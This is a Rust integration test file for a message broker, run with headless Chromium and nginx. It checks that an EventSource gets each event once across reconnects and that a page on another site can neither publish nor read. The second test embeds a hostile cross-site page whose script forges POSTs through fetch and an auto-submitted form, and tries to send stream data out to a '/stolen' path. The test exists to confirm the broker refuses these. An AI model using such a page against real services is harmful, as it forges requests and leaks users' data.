//! An `EventSource` in Chromium, with nginx as a proxy in front of the broker. The page publishes
//! each event that it receives.

use std::fs;
use std::process::Command;

use serde_json::{Value, json};
use tempfile::TempDir;

use crate::support::http_client::HttpClient;
use crate::support::nginx::Nginx;
use crate::support::process::{Process, Server};
use crate::support::wait::wait_until;

const LISTENING_PAGE: &str = r"<!doctype html><title>Listens</title><script>
const source = new EventSource('/topics/log/events?from=first');
const publish = text => fetch('/topics/received', { method: 'POST', body: text });
source.onmessage = event => publish(event.lastEventId + ' ' + event.data);
</script>";

/// A page of another site that tries to publish and to read.
const CROSS_SITE_PAGE: &str = r"<!doctype html><title>Strange</title><script>
const at = 'http://BROKER/topics/log';
fetch(at, { method: 'POST', mode: 'no-cors', body: 'forged by fetch' });
const source = new EventSource(at + '/events?from=first');
source.onmessage = event => fetch('/stolen?' + event.data);
source.onerror = () => fetch('/refused');
</script>
<form method=post enctype=text/plain action='http://BROKER/topics/log' target=frame><input name=forged value=form></form>
<iframe name=frame></iframe><script>document.forms[0].submit()</script>";

/// Starts Chromium with its own profile at a page.
#[track_caller]
fn start_chromium(url: &str, profile: &TempDir) -> Process {
    let mut command = Command::new("chromium");
    command.args([
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
    ]);
    command.args([
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
    ]);
    command.args(["--disable-dev-shm-usage", "--remote-debugging-port=0"]);
    command.arg(format!("--user-data-dir={}", profile.path().display())).arg(url);
    Process::start(&mut command)
}

fn received_by_page(http: &HttpClient) -> Vec<Value> {
    let page = http.get("/topics/received?from=first&wait=0").json();
    page["events"].as_array().unwrap().iter().map(|event| event["payload"].clone()).collect()
}

#[test]
#[ignore = "needs foreign programs"]
fn an_event_source_receives_each_event_once_across_reconnects() {
    let server = Server::start_broker();
    let http = HttpClient::new(&server);
    let (folder, profile) = (TempDir::new().unwrap(), TempDir::new().unwrap());
    fs::write(folder.path().join("index.html"), LISTENING_PAGE).unwrap();
    // nginx closes a stream that is silent for two seconds, and the browser reconnects.
    let proxy = format!(
        "root {}; location /topics/ {{
            proxy_pass http://{}; proxy_set_header Host $http_host; proxy_http_version 1.1;
            proxy_set_header Connection ''; proxy_read_timeout 2s;
        }}",
        folder.path().display(),
        http.authority()
    );
    let nginx = Nginx::start(
        folder,
        "log_format last_id '$http_last_event_id'; access_log access.log last_id;",
        &proxy,
    );
    let _browser = start_chromium(&nginx.url(), &profile);
    let log = nginx.folder.path().join("access.log");
    let came_back_behind = |last: &str| {
        let log = fs::read_to_string(&log).unwrap_or_default();
        log.lines().any(|line| line == last).then_some(())
    };
    let mut expected = Vec::new();
    for n in 1..=3 {
        http.post_lines("/topics/log", &format!("http://a.example/{n}"));
        expected.push(json!(format!("{n} http://a.example/{n}")));
        wait_until("the browser to receive it", || {
            (received_by_page(&http).len() >= n).then_some(())
        });
        wait_until("a reconnect", || came_back_behind(&n.to_string()));
    }
    assert_eq!(received_by_page(&http), expected);
}

#[test]
#[ignore = "needs foreign programs"]
fn a_page_of_another_site_can_neither_publish_nor_read() {
    let server = Server::start_broker();
    let http = HttpClient::new(&server);
    http.post_lines("/topics/log", "secret");
    let (folder, profile) = (TempDir::new().unwrap(), TempDir::new().unwrap());
    let page = CROSS_SITE_PAGE.replace("BROKER", http.authority());
    fs::write(folder.path().join("index.html"), page).unwrap();
    let site = format!("root {};", folder.path().display());
    let nginx = Nginx::start(folder, "access_log access.log;", &site);
    let before = rejected_requests(&http);
    // Another origin: a second name of the same machine.
    let url =
        format!("http://localhost:{}/", nginx.port).replace("localhost", "stranger.localhost");
    let _browser = start_chromium(&url, &profile);
    wait_until("three refusals", || (rejected_requests(&http) >= before + 3).then_some(()));
    let log = fs::read_to_string(nginx.folder.path().join("access.log")).unwrap();
    assert!(!log.contains("/stolen"), "{log}");
    let events = http.get("/topics/log?from=first").json()["events"].clone();
    assert_eq!((events.as_array().unwrap().len(), &events[0]["payload"]), (1, &json!("secret")));
}

fn rejected_requests(http: &HttpClient) -> u64 {
    http.get("/stats").json()["refused"].as_u64().unwrap()
}
